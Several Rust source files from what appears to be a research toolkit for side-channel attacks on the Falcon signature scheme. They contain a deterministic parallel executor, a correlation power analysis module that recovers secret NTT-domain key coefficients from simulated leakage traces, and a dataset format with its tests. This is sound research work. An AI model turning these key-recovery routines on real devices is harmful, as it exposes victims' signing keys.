                        items[lo..hi].iter().map(|item| f(&mut state, item)).collect::<Vec<R>>()
                    }));
                    let bad = out.is_err();
                    if tx.send((c, out)).is_err() {
                        break;
                    }
                    if bad {
                        failed.store(true, Ordering::Relaxed);
                        break;
                    }
                }
            });
        }
    });
    drop(tx);
    // All workers joined at scope exit; drain and reassemble in chunk
    // order — the step that makes scheduling invisible in the output.
    let mut parts: Vec<ChunkResult<R>> = rx.try_iter().collect();
    parts.sort_unstable_by_key(|p| p.0);
    let mut out = Vec::with_capacity(items.len());
    for (c, part) in parts {
        match part {
            Ok(mut v) => out.append(&mut v),
            // Lowest-index panic wins (sorted order); later chunks may be
            // missing entirely once the failure flag stopped the pool.
            Err(p) => return Err(panicked(c, p)),
        }
    }
    debug_assert_eq!(out.len(), items.len(), "every chunk must report exactly once");
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    // `ct_lint` note: this module processes attacker-known data only
    // (candidate guesses, public operands, measured samples), so the
    // refactor introduces no new `// ct: secret` regions — the
    // workspace-wide zero-new-violations gate in
    // `crates/ct/tests/workspace_lint.rs` enforces exactly that.

    /// Runs `f` under a temporary thread override, restoring the
    /// previous override afterwards even on panic.
    fn with_threads<R>(n: usize, f: impl FnOnce() -> R) -> R {
        struct Restore(usize);
        impl Drop for Restore {
            fn drop(&mut self) {
                THREAD_OVERRIDE.store(self.0, Ordering::Relaxed);
            }
        }
        let _guard = Restore(THREAD_OVERRIDE.swap(n, Ordering::Relaxed));
        f()
    }

    #[test]
    fn map_preserves_order_and_values() {
        let items: Vec<u64> = (0..10_000).collect();
        let want: Vec<u64> = items.iter().map(|&v| v.wrapping_mul(2654435761)).collect();
        for threads in [1, 2, 3, 8] {
            let got = with_threads(threads, || map(&items, |&v| v.wrapping_mul(2654435761)));
            assert_eq!(got, want, "threads={threads}");
        }
    }

    #[test]
    fn float_accumulation_is_bit_identical_across_thread_counts() {
        // Each item does its own chain of non-associative arithmetic;
        // the executor must not change a single bit of any result.
        let items: Vec<f64> = (0..5000).map(|i| 1.0 + (i as f64) * 1e-3).collect();
        let score = |&x: &f64| {
            let mut acc = 0f64;
            let mut v = x;
            for _ in 0..50 {
                v = v * 1.0000001 + 0.1;
                acc += v * v;
            }
            acc
        };
        let serial: Vec<u64> =
            with_threads(1, || map(&items, score)).into_iter().map(f64::to_bits).collect();
        for threads in [2, 5, 16] {
            let par: Vec<u64> = with_threads(threads, || map(&items, score))
                .into_iter()
                .map(f64::to_bits)
                .collect();
            assert_eq!(par, serial, "threads={threads}");
        }
    }

    #[test]
    fn map_with_reuses_worker_scratch() {
        let items: Vec<usize> = (0..4096).collect();
        let got = with_threads(4, || {
            map_with(&items, Vec::<f64>::new, |scratch, &i| {
                scratch.clear();
                scratch.extend((0..8).map(|j| (i * 8 + j) as f64));
                scratch.iter().sum::<f64>()
            })
        });
        for (i, &v) in got.iter().enumerate() {
            let want: f64 = (0..8).map(|j| (i * 8 + j) as f64).sum();
            assert_eq!(v, want);
        }
    }

    #[test]
    fn small_inputs_stay_serial() {
        // Below the threshold nothing spawns; this is a behavioural
        // contract (tiny beam levels must not pay fan-out latency).
        let before = obs::metrics().snapshot();
        let items: Vec<u32> = (0..PAR_THRESHOLD as u32 - 1).collect();
        let got = with_threads(8, || map(&items, |&v| v + 1));
        assert_eq!(got.len(), items.len());
        let after = obs::metrics().snapshot();
        assert_eq!(after.counter_delta(&before, "exec.fanout"), 0);
        assert!(after.counter_delta(&before, "exec.serial") >= 1);
    }

    #[test]
    fn empty_input_yields_empty_output() {
        let items: Vec<u8> = Vec::new();
        assert!(map(&items, |&v| v).is_empty());
        assert!(map_with(&items, || 0u64, |_, &v| v).is_empty());
    }

    #[test]
    fn single_item_maps_at_any_thread_count() {
        for threads in [1, 2, 8] {
            let got = with_threads(threads, || map(&[41u32], |&v| v + 1));
            assert_eq!(got, vec![42], "threads={threads}");
        }
    }

    #[test]
    fn fewer_items_than_threads_is_correct() {
        let items: Vec<u32> = (0..3).collect();
        let got = with_threads(16, || map(&items, |&v| v * 10));
        assert_eq!(got, vec![0, 10, 20]);
    }

    #[test]
    fn more_workers_than_chunks_is_clamped() {
        // At exactly PAR_THRESHOLD items with a large override, chunking
        // produces fewer chunks than requested workers; the executor must
        // clamp rather than spawn idle threads, and the output must still
        // be exact.
        let items: Vec<u64> = (0..PAR_THRESHOLD as u64).collect();
        let want: Vec<u64> = items.iter().map(|&v| v * 3 + 1).collect();
        let before = obs::metrics().snapshot();
        let got = with_threads(64, || map(&items, |&v| v * 3 + 1));
        assert_eq!(got, want);
        let after = obs::metrics().snapshot();
        assert!(after.counter_delta(&before, "exec.fanout") >= 1);
    }

    #[test]
    fn map_with_is_bit_identical_across_thread_counts() {
        // A contract-abiding `f` (scratch treated as uninitialised per
        // call) must see no difference between serial and fan-out runs,
        // even though workers reuse scratch across many chunks.
        let items: Vec<u64> = (0..4096).collect();
        let run = |threads: usize| {
            with_threads(threads, || {
                map_with(&items, Vec::<f64>::new, |scratch, &i| {
                    scratch.clear();
                    scratch.extend((0..16).map(|j| 1.0 + ((i * 16 + j) as f64) * 1e-9));
                    scratch.iter().fold(0f64, |a, &b| a.mul_add(1.0000001, b)).to_bits()
                })
            })
        };
        let serial = run(1);
        for threads in [2, 7, 32] {
            assert_eq!(run(threads), serial, "threads={threads}");
        }
    }

    #[test]
    fn thread_override_is_visible() {
        with_threads(3, || assert_eq!(threads(), 3));
    }

    /// Silences the default panic hook for the duration of `f` so the
    /// deliberate worker panics below do not spam the test output.
    fn quiet_panics<R>(f: impl FnOnce() -> R) -> R {
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(|_| {}));
        let r = f();
        std::panic::set_hook(prev);
        r
    }

    #[test]
    fn worker_panic_is_a_typed_error_not_an_abort() {
        let items: Vec<u64> = (0..4096).collect();
        let r = quiet_panics(|| {
            with_threads(4, || {
                try_map(&items, |&v| {
                    assert!(v != 1000, "injected fault at {v}");
                    v
                })
            })
        });
        match r {
            Err(Error::WorkerPanicked { chunk, payload }) => {
                // Item 1000 lives in a deterministic chunk for this shape.
                let chunk_size = (items.len().div_ceil(4 * 4)).max(MIN_CHUNK);
                assert_eq!(chunk, 1000 / chunk_size);
                assert!(payload.contains("injected fault"), "payload: {payload}");
            }
            other => panic!("expected WorkerPanicked, got {other:?}"),
        }
    }

    #[test]
    fn serial_panic_reports_the_item_index() {
        let items: Vec<u64> = (0..16).collect();
        let r = quiet_panics(|| with_threads(1, || try_map(&items, |&v| assert!(v != 7))));
        match r {
            Err(Error::WorkerPanicked { chunk: 7, payload }) => {
                assert!(payload.contains("v != 7"), "payload: {payload}");
            }
            other => panic!("expected WorkerPanicked at item 7, got {other:?}"),
        }
    }

    #[test]
    fn lowest_panicked_chunk_wins() {
        // Two injected faults: the typed error must name the lower chunk
        // regardless of which worker hit its fault first.
        let items: Vec<u64> = (0..8192).collect();
        let r = quiet_panics(|| {
            with_threads(8, || try_map(&items, |&v| assert!(v != 100 && v != 8000)))
        });
        let chunk_size = (items.len().div_ceil(4 * 8)).max(MIN_CHUNK);
        match r {
            Err(Error::WorkerPanicked { chunk, .. }) => {
                assert!(
                    chunk <= 100 / chunk_size,
                    "reported chunk {chunk} is later than the first fault"
                );
            }
            other => panic!("expected WorkerPanicked, got {other:?}"),
        }
    }

    #[test]
    fn map_resumes_the_panic_on_the_caller() {
        let items: Vec<u64> = (0..4096).collect();
        let r = quiet_panics(|| {
            catch_unwind(AssertUnwindSafe(|| {
                with_threads(4, || map(&items, |&v| assert!(v != 2000)))
            }))
        });
        let payload = r.expect_err("map must panic when a worker panics");
        let msg = payload.downcast_ref::<String>().expect("string payload");
        assert!(msg.contains("exec worker panicked"), "payload: {msg}");
    }

    #[test]
    fn try_map_succeeds_and_matches_map() {
        let items: Vec<u64> = (0..4096).collect();
        let want = with_threads(4, || map(&items, |&v| v * 7 + 1));
        let got = with_threads(4, || try_map(&items, |&v| v * 7 + 1)).unwrap();
        assert_eq!(got, want);
    }

    #[test]
    fn pool_recovers_after_a_panicked_map() {
        // A panicked map must leave the executor fully usable: the next
        // map over the same thread configuration is exact.
        let items: Vec<u64> = (0..4096).collect();
        let _ = quiet_panics(|| with_threads(4, || try_map(&items, |&v| assert!(v != 5))));
        let got = with_threads(4, || map(&items, |&v| v + 1));
        let want: Vec<u64> = items.iter().map(|&v| v + 1).collect();
        assert_eq!(got, want);
    }
}
