//! Shared deterministic executor for the attacker-side data plane.
//!
//! Every parallel loop in this crate — candidate scoring in the
//! extend-and-prune attack, the per-trace `FFT(c)` recomputation during
//! acquisition, the per-trace screening gates, the NTT guess sweep —
//! runs through this one std-only executor instead of growing its own
//! `thread::scope` fan-out. The design goals, in order:
//!
//! 1. **Bit-identical results at any thread count.** Work is split into
//!    fixed-size chunks addressed by a shared atomic index; each chunk's
//!    results are reassembled strictly in chunk order, so neither the
//!    thread count nor the OS scheduler can reorder a single
//!    floating-point operation relative to the serial execution of the
//!    same chunks.
//! 2. **No `R: Default + Clone` bound.** Results travel back through a
//!    channel as `(chunk index, Vec<R>)` pairs rather than being written
//!    into a pre-filled output buffer, so plain data types need no
//!    dummy-value constructor (the old `attack::parallel_map` hack).
//! 3. **Reproducible benches.** The worker count is overridable — by the
//!    `FALCON_DEMA_THREADS` environment variable for whole-process runs
//!    (CI's determinism matrix leg) and by [`set_threads`] for in-process
//!    sweeps (the determinism test runs the same campaign at 1, 2 and N
//!    threads and asserts identical keys and checkpoints).
//!
//! The executor handles only attacker-known values (public `FFT(c)`
//! operands, captured samples, candidate guesses), so it carries no
//! `// ct: secret` regions; the constant-time gates are unaffected by
//! scheduling.

use crate::obs;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::sync::{Arc, OnceLock};

/// Below this many items a map stays on the calling thread: the spawn
/// plus channel round-trip costs more than the work.
const PAR_THRESHOLD: usize = 256;

/// Smallest chunk handed to a worker; keeps the atomic index and the
/// per-chunk `Vec` overhead invisible next to the chunk's own work.
const MIN_CHUNK: usize = 32;

/// In-process worker-count override; `0` means "not set" (fall back to
/// the environment, then the hardware).
static THREAD_OVERRIDE: AtomicUsize = AtomicUsize::new(0);

/// Metric handles for the executor, resolved once.
struct ExecMetrics {
    /// Maps that fanned out across worker threads.
    fanout: Arc<obs::Counter>,
    /// Maps that stayed on the calling thread.
    serial: Arc<obs::Counter>,
    /// Worker threads used by the most recent fan-out.
    threads: Arc<obs::Gauge>,
    /// Chunks dispatched across all fan-outs.
    chunks: Arc<obs::Counter>,
}

fn exec_metrics() -> &'static ExecMetrics {
    static M: OnceLock<ExecMetrics> = OnceLock::new();
    M.get_or_init(|| ExecMetrics {
        fanout: obs::counter("exec.fanout"),
        serial: obs::counter("exec.serial"),
        threads: obs::gauge("exec.threads"),
        chunks: obs::counter("exec.chunks"),
    })
}

/// The `FALCON_DEMA_THREADS` value at first use (cached: the executor
/// sits on hot paths and `std::env::var` takes a lock).
fn env_threads() -> Option<usize> {
    static ENV: OnceLock<Option<usize>> = OnceLock::new();
    // ct: allow(opt-in worker-count knob, read once and cached)
    *ENV.get_or_init(|| {
        std::env::var("FALCON_DEMA_THREADS").ok().and_then(|v| v.trim().parse::<usize>().ok())
    })
}

/// The worker count the executor will use for the next fan-out:
/// [`set_threads`] override, else `FALCON_DEMA_THREADS`, else
/// [`std::thread::available_parallelism`]. Never zero.
pub fn threads() -> usize {
    let explicit = THREAD_OVERRIDE.load(Ordering::Relaxed);
    if explicit > 0 {
        return explicit;
    }
    if let Some(env) = env_threads() {
        if env > 0 {
            return env;
        }
    }
    std::thread::available_parallelism().map(|v| v.get()).unwrap_or(1)
}

/// Overrides the worker count for this process (`0` clears the override
/// and returns to the environment/hardware default). Intended for
/// reproducible benches and the determinism tests; takes precedence over
/// `FALCON_DEMA_THREADS`.
pub fn set_threads(n: usize) {
    THREAD_OVERRIDE.store(n, Ordering::Relaxed);
}

/// Maps `f` over `items`, preserving order, on up to [`threads`] workers.
///
/// The output is bit-identical to `items.iter().map(f).collect()` for
/// any deterministic `f`, at every thread count.
pub fn map<T, R, F>(items: &[T], f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    F: Fn(&T) -> R + Sync,
{
    map_with(items, || (), move |(), item| f(item))
}

/// Like [`map`], but each worker first builds a private scratch state
/// with `make` and threads it through its calls — the allocation-free
/// pattern behind the attack's hypothesis buffers (one scratch `Vec` per
/// worker for the whole sweep instead of one per candidate).
///
/// Determinism contract: `f` must not let results depend on the scratch
/// *history* (treat it as an uninitialised buffer each call); under that
/// contract the output is bit-identical at every thread count.
pub fn map_with<T, S, R, M, F>(items: &[T], make: M, f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    M: Fn() -> S + Sync,
    F: Fn(&mut S, &T) -> R + Sync,
{
    let workers = threads();
    let m = exec_metrics();
    if workers == 1 || items.len() < PAR_THRESHOLD {
        m.serial.incr();
        let mut state = make();
        return items.iter().map(|item| f(&mut state, item)).collect();
    }
    // Chunks a few times smaller than a fair share give the atomic index
    // something to load-balance with; MIN_CHUNK bounds the bookkeeping.
    let chunk = (items.len().div_ceil(4 * workers)).max(MIN_CHUNK);
    let n_chunks = items.len().div_ceil(chunk);
    let workers = workers.min(n_chunks);
    m.fanout.incr();
    m.threads.set(workers as f64);
    m.chunks.add(n_chunks as u64);
    let next = AtomicUsize::new(0);
    let (tx, rx) = mpsc::channel::<(usize, Vec<R>)>();
    std::thread::scope(|scope| {
        for _ in 0..workers {
            let tx = tx.clone();
            let next = &next;
            let f = &f;
            let make = &make;
            scope.spawn(move || {
                let mut state = make();
                loop {
                    let c = next.fetch_add(1, Ordering::Relaxed);
                    if c >= n_chunks {
                        break;
                    }
                    let lo = c * chunk;
                    let hi = (lo + chunk).min(items.len());
                    let out: Vec<R> =
                        items[lo..hi].iter().map(|item| f(&mut state, item)).collect();
                    if tx.send((c, out)).is_err() {
                        break;
                    }
                }
            });
        }
    });
    drop(tx);
    // All workers joined at scope exit; drain and reassemble in chunk
    // order — the step that makes scheduling invisible in the output.
    let mut parts: Vec<(usize, Vec<R>)> = rx.try_iter().collect();
    parts.sort_unstable_by_key(|p| p.0);
    debug_assert_eq!(parts.len(), n_chunks, "every chunk must report exactly once");
    let mut out = Vec::with_capacity(items.len());
    for (_, mut part) in parts {
        out.append(&mut part);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    // `ct_lint` note: this module processes attacker-known data only
    // (candidate guesses, public operands, measured samples), so the
    // refactor introduces no new `// ct: secret` regions — the
    // workspace-wide zero-new-violations gate in
    // `crates/ct/tests/workspace_lint.rs` enforces exactly that.

    /// Runs `f` under a temporary thread override, restoring the
    /// previous override afterwards even on panic.
    fn with_threads<R>(n: usize, f: impl FnOnce() -> R) -> R {
        struct Restore(usize);
        impl Drop for Restore {
            fn drop(&mut self) {
                THREAD_OVERRIDE.store(self.0, Ordering::Relaxed);
            }
        }
        let _guard = Restore(THREAD_OVERRIDE.swap(n, Ordering::Relaxed));
        f()
    }

    #[test]
    fn map_preserves_order_and_values() {
        let items: Vec<u64> = (0..10_000).collect();
        let want: Vec<u64> = items.iter().map(|&v| v.wrapping_mul(2654435761)).collect();
        for threads in [1, 2, 3, 8] {
            let got = with_threads(threads, || map(&items, |&v| v.wrapping_mul(2654435761)));
            assert_eq!(got, want, "threads={threads}");
        }
    }

    #[test]
    fn float_accumulation_is_bit_identical_across_thread_counts() {
        // Each item does its own chain of non-associative arithmetic;
        // the executor must not change a single bit of any result.
        let items: Vec<f64> = (0..5000).map(|i| 1.0 + (i as f64) * 1e-3).collect();
        let score = |&x: &f64| {
            let mut acc = 0f64;
            let mut v = x;
            for _ in 0..50 {
                v = v * 1.0000001 + 0.1;
                acc += v * v;
            }
            acc
        };
        let serial: Vec<u64> =
            with_threads(1, || map(&items, score)).into_iter().map(f64::to_bits).collect();
        for threads in [2, 5, 16] {
            let par: Vec<u64> = with_threads(threads, || map(&items, score))
                .into_iter()
                .map(f64::to_bits)
                .collect();
            assert_eq!(par, serial, "threads={threads}");
        }
    }

    #[test]
    fn map_with_reuses_worker_scratch() {
        let items: Vec<usize> = (0..4096).collect();
        let got = with_threads(4, || {
            map_with(&items, Vec::<f64>::new, |scratch, &i| {
                scratch.clear();
                scratch.extend((0..8).map(|j| (i * 8 + j) as f64));
                scratch.iter().sum::<f64>()
            })
        });
        for (i, &v) in got.iter().enumerate() {
            let want: f64 = (0..8).map(|j| (i * 8 + j) as f64).sum();
            assert_eq!(v, want);
        }
    }

    #[test]
    fn small_inputs_stay_serial() {
        // Below the threshold nothing spawns; this is a behavioural
        // contract (tiny beam levels must not pay fan-out latency).
        let before = obs::metrics().snapshot();
        let items: Vec<u32> = (0..PAR_THRESHOLD as u32 - 1).collect();
        let got = with_threads(8, || map(&items, |&v| v + 1));
        assert_eq!(got.len(), items.len());
        let after = obs::metrics().snapshot();
        assert_eq!(after.counter_delta(&before, "exec.fanout"), 0);
        assert!(after.counter_delta(&before, "exec.serial") >= 1);
    }

    #[test]
    fn empty_input_yields_empty_output() {
        let items: Vec<u8> = Vec::new();
        assert!(map(&items, |&v| v).is_empty());
        assert!(map_with(&items, || 0u64, |_, &v| v).is_empty());
    }

    #[test]
    fn single_item_maps_at_any_thread_count() {
        for threads in [1, 2, 8] {
            let got = with_threads(threads, || map(&[41u32], |&v| v + 1));
            assert_eq!(got, vec![42], "threads={threads}");
        }
    }

    #[test]
    fn fewer_items_than_threads_is_correct() {
        let items: Vec<u32> = (0..3).collect();
        let got = with_threads(16, || map(&items, |&v| v * 10));
        assert_eq!(got, vec![0, 10, 20]);
    }

    #[test]
    fn more_workers_than_chunks_is_clamped() {
        // At exactly PAR_THRESHOLD items with a large override, chunking
        // produces fewer chunks than requested workers; the executor must
        // clamp rather than spawn idle threads, and the output must still
        // be exact.
        let items: Vec<u64> = (0..PAR_THRESHOLD as u64).collect();
        let want: Vec<u64> = items.iter().map(|&v| v * 3 + 1).collect();
        let before = obs::metrics().snapshot();
        let got = with_threads(64, || map(&items, |&v| v * 3 + 1));
        assert_eq!(got, want);
        let after = obs::metrics().snapshot();
        assert!(after.counter_delta(&before, "exec.fanout") >= 1);
    }

    #[test]
    fn map_with_is_bit_identical_across_thread_counts() {
        // A contract-abiding `f` (scratch treated as uninitialised per
        // call) must see no difference between serial and fan-out runs,
        // even though workers reuse scratch across many chunks.
        let items: Vec<u64> = (0..4096).collect();
        let run = |threads: usize| {
            with_threads(threads, || {
                map_with(&items, Vec::<f64>::new, |scratch, &i| {
                    scratch.clear();
                    scratch.extend((0..16).map(|j| 1.0 + ((i * 16 + j) as f64) * 1e-9));
                    scratch.iter().fold(0f64, |a, &b| a.mul_add(1.0000001, b)).to_bits()
                })
            })
        };
        let serial = run(1);
        for threads in [2, 7, 32] {
            assert_eq!(run(threads), serial, "threads={threads}");
        }
    }

    #[test]
    fn thread_override_is_visible() {
        with_threads(3, || assert_eq!(threads(), 3));
    }
}
