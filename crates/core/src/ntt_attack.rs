//! CPA against an NTT-based implementation (paper §V.C).
//!
//! The paper argues the integer NTT leaks *more* than the floating-point
//! FFT: the modular product's non-linearity separates wrong guesses much
//! faster. This module runs the same Pearson distinguisher against the
//! simulated NTT device so the benchmark harness can put numbers on that
//! comparison.

use crate::confidence::traces_to_disclosure;
use crate::cpa::pearson_evolution;
use falcon_emsim::ntt_leak::NttDevice;
use falcon_sig::ntt::mq_mul;
use falcon_sig::params::Q;
use falcon_sig::rng::Prng;

/// Result of attacking one NTT-domain coefficient.
#[derive(Debug, Clone, PartialEq)]
pub struct NttAttackResult {
    /// Best guess for the secret NTT-domain coefficient.
    pub guess: u32,
    /// Its correlation.
    pub corr: f64,
    /// Runner-up correlation.
    pub runner_up: f64,
    /// Traces to stable 99.99 % disclosure for the true value.
    pub disclosure: Option<usize>,
}

/// Scores all q guesses of one NTT-domain coefficient against a single
/// known/sample column pair and returns `(guess, corr, runner_up)` —
/// the column-level distinguisher shared by the live device attack and
/// archived [`ColumnSource`](crate::source::ColumnSource) sweeps.
pub fn score_ntt_column(knowns: &[u32], samples: &[f32]) -> (u32, f64, f64) {
    let guesses: Vec<u32> = (0..Q).collect();
    // Every guess correlates against the same sample column: precompute
    // its mean/variance pass once and amortise it over all q guesses
    // (bit-identical to calling `pearson` per guess).
    let moments = crate::cpa::SampleMoments::new(samples);
    let scores = crate::exec::map_with(&guesses, Vec::new, |hyps: &mut Vec<f64>, &g| {
        hyps.clear();
        hyps.extend(knowns.iter().map(|&k| mq_mul(k, g).count_ones() as f64));
        crate::cpa::pearson_with_moments(hyps, samples, &moments)
    });
    let mut best = (0u32, f64::NEG_INFINITY);
    let mut second = f64::NEG_INFINITY;
    for (&g, &c) in guesses.iter().zip(&scores) {
        if c > best.1 {
            second = best.1;
            best = (g, c);
        } else if c > second {
            second = c;
        }
    }
    (best.0, best.1, second)
}

/// Recovers the NTT-domain coefficient at `index` from `n_traces`
/// captures, enumerating all q guesses.
pub fn attack_ntt_coefficient(
    device: &mut NttDevice,
    index: usize,
    n_traces: usize,
    msg_rng: &mut Prng,
) -> NttAttackResult {
    let mut knowns = Vec::with_capacity(n_traces);
    let mut samples = Vec::with_capacity(n_traces);
    for _ in 0..n_traces {
        let mut msg = [0u8; 24];
        msg_rng.fill(&mut msg);
        let cap = device.capture(&msg);
        knowns.push(device.known_c_ntt(&cap)[index]);
        samples.push(cap.trace.samples[index]);
    }
    let truth = device.f_ntt()[index];
    let (guess, corr, runner_up) = score_ntt_column(&knowns, &samples);
    let true_hyps: Vec<f64> =
        knowns.iter().map(|&k| mq_mul(k, truth).count_ones() as f64).collect();
    let evo = pearson_evolution(&true_hyps, &samples);
    NttAttackResult { guess, corr, runner_up, disclosure: traces_to_disclosure(&evo) }
}

/// Runs the NTT distinguisher over one target of an archived
/// [`ColumnSource`](crate::source::ColumnSource): the first
/// occurrence's known column carries `c_ntt` values and its first step
/// column the modular-product leakage — the layout
/// [`crate::ingest`] produces for NTT captures. No ground truth is
/// available for an archive, so `disclosure` is `None`.
///
/// # Errors
///
/// Propagates the source's
/// [`target_block`](crate::source::ColumnSource::target_block) failure.
pub fn attack_ntt_target<S: crate::source::ColumnSource + ?Sized>(
    src: &S,
    target: usize,
) -> crate::error::Result<NttAttackResult> {
    let block = src.target_block(target)?;
    let knowns: Vec<u32> = block.known_column(0).iter().map(|&k| k as u32).collect();
    let samples = block.sample_column(0, falcon_emsim::StepKind::ALL[0]);
    let (guess, corr, runner_up) = score_ntt_column(&knowns, samples);
    Ok(NttAttackResult { guess, corr, runner_up, disclosure: None })
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::LeakageModel;

    #[test]
    fn recovers_ntt_coefficient() {
        let f: Vec<i16> = (0..16).map(|i| ((i * 7) % 11) as i16 - 5).collect();
        let mut dev = NttDevice::new(&f, 4, LeakageModel::hamming_weight(1.0, 1.0), b"nttatk");
        let mut msgs = Prng::from_seed(b"ntt msgs");
        let truth = dev.f_ntt()[3];
        let r = attack_ntt_coefficient(&mut dev, 3, 150, &mut msgs);
        assert_eq!(r.guess, truth, "corr={} runner={}", r.corr, r.runner_up);
        assert!(r.disclosure.is_some());
    }
}
