//! Dataset persistence.
//!
//! Real side-channel campaigns acquire once and analyse many times; this
//! module stores a [`Dataset`] in a compact self-describing binary format
//! (magic, version, dimensions, then raw little-endian payloads) so
//! acquisitions can be replayed, shared, and attacked offline.

use crate::acquire::{Dataset, POINTS_PER_TARGET};
use crate::error::{Error, Result};
use std::io::{Read, Write};

const MAGIC: &[u8; 8] = b"FDNDSET\x01";

/// Serialises a dataset.
///
/// # Errors
///
/// Propagates I/O errors from the writer. The format is
/// platform-independent (fixed-width little-endian fields).
pub fn write_dataset<W: Write>(ds: &Dataset, mut w: W) -> Result<()> {
    w.write_all(MAGIC)?;
    w.write_all(&(ds.n() as u64).to_le_bytes())?;
    w.write_all(&(ds.targets().len() as u64).to_le_bytes())?;
    w.write_all(&(ds.traces() as u64).to_le_bytes())?;
    for &t in ds.targets() {
        w.write_all(&(t as u64).to_le_bytes())?;
    }
    for trace in 0..ds.traces() {
        for &t in ds.targets() {
            for occ in 0..2 {
                w.write_all(&ds.known(trace, t, occ).to_le_bytes())?;
            }
        }
    }
    for trace in 0..ds.traces() {
        for &t in ds.targets() {
            for v in ds.window(trace, t) {
                w.write_all(&v.to_le_bytes())?;
            }
        }
    }
    Ok(())
}

pub(crate) fn read_u64<R: Read>(r: &mut R) -> Result<u64> {
    let mut b = [0u8; 8];
    r.read_exact(&mut b)?;
    Ok(u64::from_le_bytes(b))
}

pub(crate) fn bad(msg: &str) -> Error {
    Error::invalid(msg)
}

/// Converts a serialized u64 count into a usize, rejecting values that do
/// not fit the platform.
pub(crate) fn checked_count(v: u64, what: &str) -> Result<usize> {
    usize::try_from(v).map_err(|_| Error::invalid(format!("{what} does not fit this platform")))
}

/// Reads `count` little-endian u64 words without trusting `count` for an
/// upfront allocation: the vector grows in bounded chunks, so a hostile
/// header over a short stream fails with a read error after a small,
/// bounded allocation instead of aborting on OOM.
pub(crate) fn read_u64s<R: Read>(r: &mut R, count: usize) -> Result<Vec<u64>> {
    const CHUNK: usize = 8 << 10;
    let mut out = Vec::with_capacity(count.min(CHUNK));
    let mut buf = [0u8; 8 * 256];
    let mut left = count;
    while left > 0 {
        let batch = left.min(256);
        let bytes = &mut buf[..8 * batch];
        r.read_exact(bytes)?;
        out.extend(
            bytes.chunks_exact(8).map(|c| u64::from_le_bytes(c.try_into().expect("8 bytes"))),
        );
        left -= batch;
    }
    Ok(out)
}

/// Reads `count` little-endian f32 samples with the same bounded-growth
/// strategy as [`read_u64s`].
pub(crate) fn read_f32s<R: Read>(r: &mut R, count: usize) -> Result<Vec<f32>> {
    const CHUNK: usize = 16 << 10;
    let mut out = Vec::with_capacity(count.min(CHUNK));
    let mut buf = [0u8; 4 * 512];
    let mut left = count;
    while left > 0 {
        let batch = left.min(512);
        let bytes = &mut buf[..4 * batch];
        r.read_exact(bytes)?;
        out.extend(
            bytes.chunks_exact(4).map(|c| f32::from_le_bytes(c.try_into().expect("4 bytes"))),
        );
        left -= batch;
    }
    Ok(out)
}

/// Deserialises a dataset written by [`write_dataset`].
///
/// # Errors
///
/// Returns [`Error::InvalidData`] on a bad magic/version or implausible
/// or overflowing dimensions, and [`Error::Io`] on truncation. Dimension
/// products are computed with checked arithmetic and the payload is read
/// incrementally, so a corrupt or hostile header cannot trigger an
/// abort-on-OOM or a capacity overflow.
pub fn read_dataset<R: Read>(mut r: R) -> Result<Dataset> {
    let mut magic = [0u8; 8];
    r.read_exact(&mut magic)?;
    if &magic != MAGIC {
        return Err(bad("not a falcon-down dataset (bad magic)"));
    }
    let n = checked_count(read_u64(&mut r)?, "ring degree")?;
    if !n.is_power_of_two() || !(2..=1 << 10).contains(&n) {
        return Err(bad("invalid ring degree"));
    }
    let n_targets = checked_count(read_u64(&mut r)?, "target count")?;
    let traces = checked_count(read_u64(&mut r)?, "trace count")?;
    if n_targets == 0 || n_targets > n || traces > 1 << 28 {
        return Err(bad("implausible dimensions"));
    }
    let targets_u = read_u64s(&mut r, n_targets)?;
    let mut targets = Vec::with_capacity(n_targets);
    for t in targets_u {
        let t = checked_count(t, "target index")?;
        if t >= n {
            return Err(bad("target index out of range"));
        }
        targets.push(t);
    }
    let known_len = traces
        .checked_mul(n_targets)
        .and_then(|v| v.checked_mul(2))
        .ok_or_else(|| bad("known-operand count overflows"))?;
    let points_len = traces
        .checked_mul(n_targets)
        .and_then(|v| v.checked_mul(POINTS_PER_TARGET))
        .ok_or_else(|| bad("sample count overflows"))?;
    let knowns = read_u64s(&mut r, known_len)?;
    let points = read_f32s(&mut r, points_len)?;
    Dataset::try_from_raw_parts(n, targets, traces, knowns, points)
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn sample_dataset() -> Dataset {
        let mut rng = Prng::from_seed(b"io test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"io bench");
        let mut msgs = Prng::from_seed(b"io msgs");
        Dataset::collect(&mut dev, &[0, 2, 5], 12, &mut msgs)
    }

    #[test]
    fn roundtrip() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let back = read_dataset(&buf[..]).unwrap();
        assert_eq!(back.n(), ds.n());
        assert_eq!(back.targets(), ds.targets());
        assert_eq!(back.traces(), ds.traces());
        for trace in 0..ds.traces() {
            for &t in ds.targets() {
                for occ in 0..2 {
                    assert_eq!(back.known(trace, t, occ), ds.known(trace, t, occ));
                    for step in StepKind::ALL {
                        assert_eq!(
                            back.sample(trace, t, occ, step),
                            ds.sample(trace, t, occ, step)
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn rejects_corruption() {
        let ds = sample_dataset();
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        // Bad magic.
        let mut bad_magic = buf.clone();
        bad_magic[0] ^= 0xFF;
        assert!(read_dataset(&bad_magic[..]).is_err());
        // Truncation.
        assert!(read_dataset(&buf[..buf.len() - 5]).is_err());
        // Absurd degree.
        let mut bad_n = buf.clone();
        bad_n[8..16].copy_from_slice(&u64::MAX.to_le_bytes());
        assert!(read_dataset(&bad_n[..]).is_err());
    }

    #[test]
    fn attack_works_on_reloaded_dataset() {
        use crate::attack::{recover_coefficient, AttackConfig};
